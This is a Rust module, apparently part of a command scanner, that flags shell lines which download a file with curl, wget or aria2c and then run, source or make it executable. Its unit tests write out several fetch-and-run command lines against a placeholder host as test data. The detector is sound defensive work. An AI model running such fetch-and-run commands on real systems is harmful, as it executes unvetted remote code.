//! Files that a line gets from the network and then runs.

use super::{
    super::scan::{LooseWord, Scan},
    code,
};

const FETCHERS: &[&str] = &["curl", "wget", "aria2c"];

/// Whether a command runs, or makes a program of, what one before it wrote down from the network.
pub(super) fn is_run(scan: &Scan) -> bool {
    let mut fetched: Vec<&str> = Vec::new();
    for command in &scan.commands {
        let Some((name, arguments)) = command.words.split_first() else { continue };
        let verb = name.text.rsplit('/').next().unwrap_or_default();
        if FETCHERS.contains(&verb) {
            fetched.extend(outputs(arguments));
            fetched.extend(command.redirects.iter().filter(|one| one.writes).map(|one| plain(&one.target.text)));
            continue;
        }
        let is_fetched = |word: &LooseWord| fetched.contains(&plain(&word.text));
        let runs_operand = code::is_interpreter(verb) || matches!(verb, "source" | "." | "chmod" | "sudo");
        if is_fetched(name) || (runs_operand && arguments.iter().any(is_fetched)) {
            return true;
        }
    }
    false
}

/// Names that a fetcher may write to, as far as its words tell.
fn outputs(arguments: &[LooseWord]) -> impl Iterator<Item = &str> {
    arguments.iter().flat_map(|word| {
        let text = word.text.as_str();
        let attached = text.strip_prefix("-o").or_else(|| text.strip_prefix("-O"));
        let long = text.strip_prefix("--").and_then(|option| option.split_once('=')).map(|(_, value)| value);
        // Of an address its last part, which names the file where nothing else does.
        let last = text.rsplit('/').next().filter(|_| text.contains("://"));
        let whole = (!text.starts_with('-')).then_some(text);
        [attached, long, last, whole].into_iter().flatten().map(plain).filter(|name| !name.is_empty())
    })
}

fn plain(path: &str) -> &str {
    path.strip_prefix("./").unwrap_or(path)
}

#[cfg(test)]
mod tests {
    use super::{super::super::scan::scan, *};

    #[test]
    fn what_is_fetched_and_run_is_known_by_its_name() {
        for line in [
            "wget http://x/y -O /tmp/y && sh /tmp/y",
            "wget http://x/install.sh; bash install.sh",
            "curl -o a http://x && chmod +x a && ./a",
            "curl -sSL http://x > a.py; python3 ./a.py",
            "curl -O http://x/i.sh; . ./i.sh",
            "curl --output=b http://x\n./b",
        ] {
            assert!(is_run(&scan(line)), "{line}");
        }
        for line in
            ["wget http://x/a.tgz; tar tf a.tgz", "sh a; curl -o a http://x", "curl http://x/a.txt | cat", "sh x"]
        {
            assert!(!is_run(&scan(line)), "{line}");
        }
    }
}
